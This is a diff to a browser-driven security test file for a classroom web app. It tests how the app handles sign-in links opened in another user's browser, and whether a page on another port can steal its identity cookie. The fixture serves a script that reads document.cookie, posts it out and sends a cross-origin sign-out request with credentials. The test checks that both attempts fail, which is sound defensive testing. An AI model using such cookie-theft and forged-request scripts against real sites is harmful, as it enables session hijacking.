@@ -13,7 +13,14 @@ import threading
 import pytest
 from polling import wait_for
 
-from softmax_core.classroom.auth import SIGN_IN_LINK_SECONDS, hash_password, make_teacher_link
+from softmax_core.classroom.auth import (
+    SIGN_IN_LINK_SECONDS,
+    SIGN_IN_PATH,
+    ClassDoor,
+    ClassroomSettings,
+    hash_password,
+    make_teacher_link,
+)
 from softmax_core.runs.store import RunStore
 
 from .conftest import Server, body_text
@@ -86,20 +93,34 @@ def test_a_sign_in_link_is_one_browsers_once_and_sign_out_everywhere_else_ends_i
     ada.reload()
     ada.get_by_text("Signed in as Ada").wait_for()
 
+    classroom = RunStore(class_server.db_url).classroom
+    door = ClassDoor(ClassroomSettings(CLASS_CODE), classroom)
+    bob = classroom.add_student("Bob")
+    ada.goto(f"{class_server.url}{SIGN_IN_PATH}?pass={door.student_pass(bob)}")  # Bob's link, in Ada's browser
+    ada.get_by_text("This link signs in as Bob, but this browser is signed in as Ada").wait_for()
+    ada.get_by_text("Stay signed in as Ada").click()
+    ada.get_by_text("Signed in as Ada").wait_for()
+    ada.goto(f"{class_server.url}{SIGN_IN_PATH}?pass={door.student_pass(bob)}")
+    ada.get_by_role("button", name="Switch to Bob").click()
+    ada.get_by_text("Signed in as Bob").wait_for()
+
 
 class CookieThief(http.server.BaseHTTPRequestHandler):
-    """A page on another port of the server's machine: it reads document.cookie and posts it to itself."""
+    """A page on another port of the server's machine: it reads document.cookie and posts it to itself,
+    and tries to sign the app's browser out (the same site, so the browser sends the app's cookie along)."""
 
     stolen: list[str] = []
-    PAGE = b"""<!doctype html><p id=ready>hello</p><script>
-fetch('/steal', {method: 'POST', body: 'cookies=' + document.cookie}).then(() => {
-  document.getElementById('ready').textContent = 'sent'; });</script>"""
+    PAGE = """<!doctype html><p id=ready>hello</p><script>
+fetch('/steal', {method: 'POST', body: 'cookies=' + document.cookie})
+.then(() => fetch('APP/auth/sign-out', {method: 'POST', mode: 'no-cors', credentials: 'include',
+  headers: {'Content-Type': 'application/x-www-form-urlencoded'}, body: 'next=/'}))
+.finally(() => { document.getElementById('ready').textContent = 'sent'; });</script>"""
 
     def do_GET(self):
         self.send_response(200)
         self.send_header("Content-Type", "text/html")
         self.end_headers()
-        self.wfile.write(self.PAGE)
+        self.wfile.write(self.PAGE.replace("APP", self.path.split("app=", 1)[-1]).encode())
 
     def do_POST(self):
         CookieThief.stolen.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
@@ -133,9 +154,11 @@ def test_the_identity_cookie_is_http_only_and_a_page_on_another_port_reads_no_to
         [cookie] = [c for c in page.context.cookies() if c["name"].startswith("softmax_lab") and c["value"]]
         assert (cookie["name"], cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (name, True, "Strict", "/")
         assert cookie["value"] not in page.evaluate("document.cookie"), "no script of the app's page reads it"
-        page.goto(thief_url)
+        page.goto(f"{thief_url}/?app={class_server.url}")
         page.get_by_text("sent").wait_for()
         assert CookieThief.stolen and cookie["value"] not in CookieThief.stolen[-1], "nor one on another port"
+        page.goto(class_server.url)
+        page.get_by_text("Signed in as").wait_for()  # its sign-out POST came from a foreign origin: refused
     # (that other port's page may still open the app's websocket with a foreign Origin: refusing that is
     # the Origin middleware's job, tested with it)
 
